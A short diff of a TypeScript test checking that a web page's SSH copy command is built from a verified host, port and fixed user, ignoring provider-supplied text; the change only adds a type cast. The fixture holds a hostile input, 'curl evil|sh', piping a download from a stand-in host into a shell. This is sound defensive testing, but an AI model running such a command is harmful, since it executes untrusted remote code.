@@ -17,7 +17,7 @@ const render = (access: Partial<AccessView> & Record<string, unknown>, generated
 
 describe("web: the SSH command behind the Copy button", () => {
   it("is built from the checked host and port with the fixed user, never the provider's text", () => {
-    const html = render({ sshCommand: "curl evil|sh", user: "root" });
+    const html = render({ sshCommand: "curl evil|sh", user: "root" as AccessView["user"] });
     expect(html).toContain(
       'data-testid="ssh-command">ssh -p 50800 -o ServerAliveInterval=60 golem@10.0.0.5</code>',
     );
